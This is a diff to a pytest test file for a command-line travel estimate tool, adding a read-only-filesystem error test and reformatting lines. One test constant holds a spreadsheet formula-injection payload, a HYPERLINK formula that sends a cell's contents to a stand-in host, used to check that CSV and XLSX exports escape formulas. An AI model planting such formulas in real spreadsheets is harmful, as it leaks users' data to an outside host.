@@ -182,6 +182,19 @@ def test_out_into_a_read_only_folder(tmp_path: Path, prod: Path) -> None:
         ro.chmod(0o700)
 
 
+def test_read_only_or_full_device_is_said(tmp_path: Path, prod: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import errno
+    import tempfile
+
+    def refuse(*args: object, **kwargs: object) -> None:
+        raise OSError(errno.EROFS, "Read-only file system")
+
+    monkeypatch.setattr(tempfile, "mkstemp", refuse)
+    out = invoke("estimate", prod, "--format", "json", "--out", tmp_path / "r.json")
+    assert out.exit_code == 2 and "read-only" in text_of(out)
+    assert not (tmp_path / "r.json").exists()
+
+
 def test_writer_errors_are_sentences() -> None:
     import errno
 
@@ -247,7 +260,7 @@ def test_out_extension_must_match_the_format(tmp_path: Path, prod: Path) -> None
 
 # -- security and exhaustion -----------------------------------------------------------------------
 
-EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
+EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
 
 
 def test_csv_and_xlsx_exports_escape_formulas(tmp_path: Path) -> None:
@@ -323,7 +336,9 @@ def test_deep_nesting_is_refused(tmp_path: Path) -> None:
 
 
 def test_place_mappings_are_strict(tmp_path: Path) -> None:
-    text = BASE.replace("from: CDG\n    to: LIS\n    travellers: 4", "from: {city: Paris, contry: US}\n    to: LIS\n    travellers: 4")
+    text = BASE.replace(
+        "from: CDG\n    to: LIS\n    travellers: 4", "from: {city: Paris, contry: US}\n    to: LIS\n    travellers: 4"
+    )
     out = invoke("estimate", write(tmp_path, text))
     assert out.exit_code == 2 and "contry" in text_of(out) and "country" in text_of(out)
 
